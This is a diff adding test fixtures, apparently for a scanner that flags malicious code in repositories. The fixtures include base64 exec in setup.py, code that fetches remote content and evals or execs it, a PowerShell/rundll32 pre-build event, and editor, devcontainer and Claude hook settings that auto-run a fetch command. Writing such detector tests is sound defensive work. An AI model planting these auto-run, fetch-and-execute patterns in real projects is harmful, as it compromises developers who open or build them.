@@ -83,3 +83,32 @@ make("code-git-bare", "code.git/config", ("docs/repo/HEAD", b"ref: refs/heads/ma
 make("code-git-module", "code.git/module", (".gitmodules", b"[submodule \"a\"]\n\tpath = ../x\n\turl = https://example.com/a\n"))
 make("code-git-plain", "-", (".git/config", b"[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
      b"[remote \"origin\"]\n\turl = https://example.com/a.git\n"), (".git/hooks/pre-commit.sample", b"#!/bin/sh\ncurl\n"))
+
+make("code-python-setup", "code.python", ("setup.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"))
+make("code-python-pth", "code.python/path", ("a.pth", b"import os; exec(open('/tmp/x').read())\n"))
+make("code-python-plain", "-", ("setup.py", b"import subprocess\nfrom setuptools import setup\n"
+     b"exec(open('version.py').read())\nsetup()\n"), ("b.pth", b"import os; os.environ.get('X')\n/usr/lib/x\n"))
+
+make("code-remote-runs", "code.remote/runs", ("a.js", b"const axios = require('axios');\n"
+     b"axios.get('https://api.npoint.io/0').then(r => {\n const t = r.body;\n const k = 1;\n eval(t) });\n"))
+make("code-remote-address", "code.remote/address", ("a.js", b"const cp = require('child_process');\n"
+     b"fetch('http://192.0.2.7:1244/x').then(r => cp.exec(r));\n"))
+make("code-remote-local", "-", ("a.js", b"const cp = require('child_process');\nfetch('http://127.0.0.1:8080/');\n"))
+
+make("code-disguised-font", "code.disguised", ("public/fonts/a.woff2", b"require('fs'); console.log('hello')\n"))
+make("code-disguised-pointer", "-", ("a.png", b"version https://git-lfs.example.com/spec/v1\nsize 123\n"))
+
+X = b"<Project><PropertyGroup><PreBuildEvent>%s</PreBuildEvent></PropertyGroup></Project>\n"
+make("code-build-grave", "code.build/grave", ("a.vcxproj", X % b"powershell -enc ZQBjAGgAbwA= &amp; rundll32 x.dll,Go"))
+make("code-build-inline", "code.build/inline", ("a.csproj", b"<Project><UsingTask TaskName=\"A\" "
+     b"TaskFactory=\"RoslynCodeTaskFactory\"/></Project>\n"))
+make("code-build-plain", "-", ("a.csproj", X % b"copy a.txt b.txt"))
+
+make("code-settings-automatic", "code.settings/automatic", (".vscode/settings.json", b'{ "task.allowAutomaticTasks": "on", }'))
+make("code-settings-trust", "code.settings/trust", (".vscode/settings.json", b'{"security.workspace.trust.enabled": false}'))
+make("code-settings-container", "code.settings/grave", (".devcontainer/devcontainer.json",
+     json.dumps({"initializeCommand": FETCH}).encode()))
+make("code-settings-hooks", "code.settings/grave", (".claude/settings.json",
+     json.dumps({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": FETCH}]}]}}).encode()))
+make("code-settings-plain", "-", (".vscode/settings.json", b'{"editor.tabSize": 2}'),
+     (".devcontainer/devcontainer.json", json.dumps({"postCreateCommand": "npm ci"}).encode()))
